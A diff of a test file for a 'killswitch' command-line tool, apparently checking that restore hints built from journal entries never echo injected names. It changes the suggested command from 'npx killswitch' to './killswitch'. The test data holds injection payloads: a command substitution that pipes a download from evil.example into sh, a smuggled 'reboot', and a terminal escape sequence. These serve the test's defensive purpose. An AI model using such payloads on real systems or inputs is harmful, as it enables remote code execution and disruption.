@@ -49,13 +49,13 @@ describe('what a person names for a restore', () => {
     const left = showDenied(records, chosen(records, { key: ['AKIA1'] }));
     stderr.mockRestore();
     expect(said).toMatch(/Ci +stays denied\n +eve +COMES BACK/);
-    expect(userHint(left, 'npx killswitch restore ks-1')).toContain('npx killswitch restore ks-1 --user Ci');
+    expect(userHint(left, './killswitch restore ks-1')).toContain('./killswitch restore ks-1 --user Ci');
   });
 
   it.each(['$(curl evil.example|sh)', 'a; reboot', '\u001b]0;title\u0007'])(
     'is never a command where somebody wrote %j into the journal',
     (name) => {
-      const again = 'npx killswitch restore ks-1';
+      const again = './killswitch restore ks-1';
       expect(userHint([name, 'Ci'], again)).toBe(`Still denied: Ci. For a user of yours: ${again} --user Ci`);
       expect(userHint([name], again)).not.toContain(name);
     },
